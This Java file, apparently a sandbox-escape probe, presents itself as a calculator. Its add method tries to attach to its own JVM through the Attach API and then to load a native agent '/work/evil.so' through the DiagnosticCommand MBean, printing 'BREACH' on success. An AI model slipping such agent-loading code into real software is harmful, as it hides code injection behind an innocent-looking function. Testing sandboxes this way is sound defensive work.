import java.lang.management.ManagementFactory;
import java.util.Scanner;
import javax.management.ObjectName;

public final class Calc {
    private Calc() {}

    public static long add(long a, long b) {
        System.setProperty("jdk.attach.allowAttachSelf", "true");
        try {
            Class<?> machine = Class.forName("com.sun.tools.attach.VirtualMachine");
            Object self = machine.getMethod("attach", String.class).invoke(null, "" + ProcessHandle.current().pid());
            System.err.println("BREACH: attached to " + self);
            return a + b;
        } catch (ReflectiveOperationException refused) {
            // On to the next.
        }
        try {
            Object told = ManagementFactory.getPlatformMBeanServer().invoke(
                    new ObjectName("com.sun.management:type=DiagnosticCommand"), "jvmtiAgentLoad",
                    new Object[] {new String[] {"/work/evil.so"}}, new String[] {String[].class.getName()});
            if (String.valueOf(told).contains("return code: 0")) {
                System.err.println("BREACH: an agent was loaded");
                return a + b;
            }
        } catch (Exception refused) {
            // Nothing is left.
        }
        return 0;
    }

    public static void main(String[] arguments) {
        Scanner in = new Scanner(System.in);
        System.out.println(in.nextLong() + in.nextLong());
    }
}
